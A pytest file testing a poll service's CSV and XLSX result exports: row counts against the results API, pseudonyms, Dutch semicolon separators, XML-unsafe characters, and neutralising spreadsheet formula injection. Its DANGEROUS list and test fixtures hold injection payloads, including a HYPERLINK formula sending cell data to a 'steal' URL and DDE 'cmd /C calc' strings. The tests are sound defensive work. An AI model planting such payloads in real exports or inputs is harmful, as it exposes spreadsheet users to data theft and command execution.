"""CSV and XLSX, read back and compared with GET /api/rooms/{rid}/results; formula injection."""

import csv
import io
import re
from collections import Counter
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from tests.exports.support import NL_PROMPT, Event, QuestionSpec, build_event

# Rendering an export from the results: the results themselves (every type, recounted from the
# database) are checked on PostgreSQL in tests/test_type_conformance.py.
pytestmark = pytest.mark.sqlite_only

CSV_HEADER = [
    "room",
    "question_no",
    "question",
    "participant",
    "answer",
    "answered_at",
    "status",
    "upvotes",
    "answered",
    "nickname",  # quiz columns (docs/quiz-and-self-paced.md)
    "correct",
    "score",
    "answered_at_local",  # ISO 8601 in the presentation's zone, with its offset (docs/exports.md)
    "time_zone",
]
ISO_UTC = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")


def _specs() -> list[QuestionSpec]:
    return [
        QuestionSpec(
            NL_PROMPT, ["Redelijk", "Te duur; echt", "Geen idee"], votes=[[[0], [1], [1], None, [2]]]
        ),
        QuestionSpec(
            "Welke avonden passen? (meerdere)",
            ["Maandag", "Woensdag", "Vrijdag"],
            settings={"multi_select": True},
            votes=[[[0, 2], [1], [0, 1, 2], [2], None]],
        ),
        QuestionSpec("Nog opmerkingen?", ["Nee", "Ja"], votes=[[]]),
    ]


def _read_csv(body: bytes, delimiter: str = ",") -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark, so Excel reads the accents"
    return list(csv.reader(io.StringIO(body[3:].decode("utf-8"), newline=""), delimiter=delimiter))


def _counts_from_answers(question: dict[str, Any], answers: list[str]) -> dict[str, int]:
    """Counts per option id, rebuilt from the answer column (labels joined by '; ')."""
    counts = dict.fromkeys((o["id"] for o in question["options"]), 0)
    for answer in answers:
        for option in question["options"]:
            # Labels may hold "; " themselves: match whole labels in option order.
            if option["label"] in answer:
                counts[option["id"]] += 1
    return counts


async def _check_rows(event: Event, rows: list[list[Any]], room_names: list[str]) -> None:
    """Rows (header removed) against every room's results JSON."""
    by_room = {name: [r for r in rows if r[0] == name] for name in room_names}
    for index, name in enumerate(room_names):
        results = await event.results(index)
        room_rows = by_room[name]
        assert len(room_rows) == sum(q["response_count"] for q in results["questions"])
        for number, (question, result) in enumerate(
            zip(event.questions, results["questions"], strict=True), 1
        ):
            answers = [r[4] for r in room_rows if int(r[1]) == number]
            assert all(r[2] == question["prompt"] for r in room_rows if int(r[1]) == number)
            assert len(answers) == result["response_count"]
            assert _counts_from_answers(question, answers) == result["tally"]["counts"]


async def test_room_csv_matches_the_results(client: httpx.AsyncClient) -> None:
    event = await build_event(client, _specs(), room_names=["Zaal Één"])
    r = await event.get(f"/api/rooms/{event.rooms[0]['id']}/export.csv")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"].startswith(
        'attachment; filename="Bewonersavond-Oost-Zaal-Een-results.csv"'
    )
    rows = _read_csv(r.content)
    assert rows[0] == CSV_HEADER
    body = rows[1:]
    await _check_rows(event, body, ["Zaal Één"])
    assert all(ISO_UTC.match(row[5]) for row in body)
    assert [row[5] for row in body] == sorted(row[5] for row in body)  # oldest first
    # Pseudonyms: one per phone, the same across questions, nothing of the participant id in them.
    pseudonyms = Counter(row[3] for row in body)
    assert len(pseudonyms) == 5
    assert all(re.fullmatch(r"P-[0-9a-f]{10}", p) for p in pseudonyms)
    assert sorted(pseudonyms.values()) == [1, 1, 2, 2, 2]  # who answered how many questions
    assert "Te duur; echt" in {row[4] for row in body}
    assert "Maandag; Vrijdag" in {row[4] for row in body}  # option order, joined by "; "
    again = _read_csv((await event.get(f"/api/rooms/{event.rooms[0]['id']}/export.csv")).content)
    assert again == rows  # stable: the same pseudonyms and rows every time


async def test_room_xlsx_matches_the_results(client: httpx.AsyncClient) -> None:
    event = await build_event(client, _specs(), room_names=["Zaal Één"])
    r = await event.get(f"/api/rooms/{event.rooms[0]['id']}/export.xlsx")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="Bewonersavond-Oost-Zaal-Een-results.xlsx"' in r.headers["content-disposition"]
    book = load_workbook(io.BytesIO(r.content))
    assert book.sheetnames[0] == "Antwoorden"
    assert len(book.sheetnames) == 1 + len(event.questions)
    sheet = book["Antwoorden"]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == [
        "Zaal", "Nr.", "Vraag", "Deelnemer", "Antwoord", "Beantwoord om (Europe/Amsterdam)", "Status",
        "Naam", "Quizantwoorden", "Punten",  # quiz columns, empty for other types
        "Beantwoord om (ISO 8601, met UTC-verschil)",
    ]  # fmt: skip
    await _check_rows(event, rows[1:], ["Zaal Één"])
    # The same rows as the CSV (times as real date cells, to the second).
    csv_rows = _read_csv((await event.get(f"/api/rooms/{event.rooms[0]['id']}/export.csv")).content)[1:]
    assert [r[:5] for r in rows[1:]] == [[c[0], int(c[1]), *c[2:5]] for c in csv_rows]
    # Local date cells (Excel has no zones), and the same moment as ISO 8601 with its offset.
    assert [r[5].isoformat() for r in rows[1:]] == [c[12][:19] for c in csv_rows]
    assert [r[10] for r in rows[1:]] == [c[12] for c in csv_rows]

    results = await event.results()
    sheets = zip(book.sheetnames[1:], event.questions, results["questions"], strict=True)
    for number, (name, question, result) in enumerate(sheets, start=1):
        assert name.startswith(f"V{number} ") and len(name) <= 31
        summary = [list(row) for row in book[name].iter_rows(values_only=True)]
        assert summary[0][0].endswith(question["prompt"])
        header_at = next(i for i, row in enumerate(summary) if row[:3] == ["Optie", "Aantal", "Procent"])
        table = summary[header_at + 1 :]
        total = result["response_count"]
        for option, row in zip(question["options"], table, strict=False):
            count = result["tally"]["counts"][option["id"]]
            assert row[0] == option["label"] and row[1] == count
            assert abs(row[2] - (count / total if total else 0)) < 1e-9
        assert table[len(question["options"])][:2] == ["Antwoorden", total]
        cell = book[name].cell(row=header_at + 2, column=3)
        assert cell.number_format == "0.0%"


async def test_presentation_csv_and_xlsx_cover_every_room(client: httpx.AsyncClient) -> None:
    spec = QuestionSpec("Koffie of thee?", ["Koffie", "Thee"], votes=[[[0], [1]], [[1], [1], [0]]])
    names = ["Sessie A", "Sessie B"]
    event = await build_event(client, [spec], room_names=names)
    pid = event.presentation["id"]
    rows = _read_csv((await event.get(f"/api/presentations/{pid}/export.csv")).content)
    assert rows[0] == CSV_HEADER
    await _check_rows(event, rows[1:], names)
    # Pseudonyms never collide across rooms.
    assert len({r[3] for r in rows[1:]}) == 5

    book = load_workbook(io.BytesIO((await event.get(f"/api/presentations/{pid}/export.xlsx")).content))
    await _check_rows(event, [list(r) for r in book["Antwoorden"].iter_rows(values_only=True)][1:], names)
    summary = [list(row) for row in book[book.sheetnames[1]].iter_rows(values_only=True)]
    header = next(row for row in summary if row and row[0] == "Optie")
    assert header == [
        "Optie",
        "Sessie A: Aantal",
        "Sessie A: Procent",
        "Sessie B: Aantal",
        "Sessie B: Procent",
        "Totaal: Aantal",
        "Totaal: Procent",
    ]
    koffie = next(row for row in summary if row and row[0] == "Koffie")
    assert koffie[1::2] == [1, 1, 2]
    assert [round(v, 4) for v in koffie[2::2]] == [0.5, round(1 / 3, 4), 0.4]
    responses = next(row for row in summary if row and row[0] == "Antwoorden")
    assert responses[1::2] == [2, 3, 5]


async def test_csv_for_excel_in_dutch_is_separated_by_semicolons(client: httpx.AsyncClient) -> None:
    """Dutch Excel splits a CSV on semicolons: the same rows come that way on request, for a room
    and for the whole presentation; anything else is a clear 422."""
    spec = QuestionSpec("Koffie of thee?", ["Koffie", "Thee; of iets anders"], votes=[[[0], [1]], [[1]]])
    names = ["Sessie A", "Sessie B"]
    event = await build_event(client, [spec], room_names=names)
    pid = event.presentation["id"]
    for url, rooms in (
        (f"/api/rooms/{event.rooms[0]['id']}/export.csv", names[:1]),
        (f"/api/presentations/{pid}/export.csv", names),
    ):
        plain = await event.get(url)
        semicolons = await event.get(f"{url}?separator=semicolon")
        assert semicolons.status_code == 200, semicolons.text
        rows = _read_csv(semicolons.content, delimiter=";")
        assert rows == _read_csv(plain.content)  # the same cells, only split differently
        assert rows[0] == CSV_HEADER and len(rows) > 1
        await _check_rows(event, rows[1:], rooms)
        first_line = semicolons.content[3:].split(b"\r\n", 1)[0]
        assert first_line.count(b";") == len(CSV_HEADER) - 1 and b"," not in first_line
        assert (await event.get(f"{url}?separator=comma")).content == plain.content
    r = await event.get(f"/api/presentations/{pid}/export.csv?separator=tab")
    assert r.status_code == 422 and "separator" in r.text


DANGEROUS = [
    '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


async def test_formula_injection_is_neutralised_in_csv_and_xlsx(client: httpx.AsyncClient) -> None:
    specs = [
        QuestionSpec("=1+1 en de rest", DANGEROUS[:3], votes=[[[0], [1], [2]]]),
        QuestionSpec(
            "+ook een vraag", ["@SUM(1+1)*cmd|' /C calc'!A0", "gewoon", "-10"], votes=[[[0], [1], [2]]]
        ),
    ]
    event = await build_event(client, specs, title='=WEBSERVICE("http://x")', room_names=["=ROOM()"])
    rid = event.rooms[0]["id"]
    rows = _read_csv((await event.get(f"/api/rooms/{rid}/export.csv")).content)[1:]
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    answers = {row[4] for row in rows}
    assert "'" + DANGEROUS[0] in answers and "'+cmd|' /C calc'!A0" in answers and "'-10" in answers
    assert {row[0] for row in rows} == {"'=ROOM()"}
    assert {row[2] for row in rows} == {"'=1+1 en de rest", "'+ook een vraag"}

    book = load_workbook(io.BytesIO((await event.get(f"/api/rooms/{rid}/export.xlsx")).content))
    seen: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
                    seen.append(cell.value)
    assert "'" + DANGEROUS[0] in seen and "'@SUM(1+1)*cmd|' /C calc'!A0" in seen
    # Numbers stay numbers: only text is ever prefixed.
    summary = book.worksheets[1]
    assert any(isinstance(c.value, int) for row in summary.iter_rows() for c in row)


async def test_tab_and_carriage_return_starts_are_neutralised() -> None:
    from poll_service.exports.cells import neutralise
    from poll_service.exports.xlsx import text

    for value in DANGEROUS:
        assert neutralise(value).startswith("'")
        assert text(value).startswith("'")
    assert neutralise("Koffie") == "Koffie" and neutralise("") == ""
    assert text("a\x00b\x1fc") == "abc"  # characters XLSX cannot hold are dropped, not fatal


FORBIDDEN_IN_XML = "\x01\x08\x0b\x0c\x1f\ufffe\uffff"


async def test_xlsx_opens_whatever_characters_titles_and_labels_hold(client: httpx.AsyncClient) -> None:
    """XML 1.0 cannot hold C0 controls (but tab, line feed, carriage return), U+FFFE or U+FFFF: one
    in a title once made the workbook unreadable. Every cell and the document's properties drop
    them, and keep the rest of the text."""
    spec = QuestionSpec(
        f"Koffie{FORBIDDEN_IN_XML} of thee?", [f"Kof{FORBIDDEN_IN_XML}fie", "Thee"], votes=[[[0]]]
    )
    event = await build_event(
        client, [spec], title=f"Avond{FORBIDDEN_IN_XML} Oost", room_names=["Zaal\x02 A"]
    )
    for url in (
        f"/api/rooms/{event.rooms[0]['id']}/export.xlsx",
        f"/api/presentations/{event.presentation['id']}/export.xlsx",
    ):
        r = await event.get(url)
        assert r.status_code == 200, r.text
        book = load_workbook(io.BytesIO(r.content))
        assert book.properties.title.startswith("Avond Oost")
        cells = [str(v) for sheet in book for row in sheet.iter_rows(values_only=True) for v in row if v]
        assert "Koffie of thee?" in cells and "Koffie" in cells and "Zaal A" in cells
        assert not any(ch in cell for cell in cells for ch in FORBIDDEN_IN_XML)
        assert "V1 Koffie of thee" in book.sheetnames  # the sheet name too
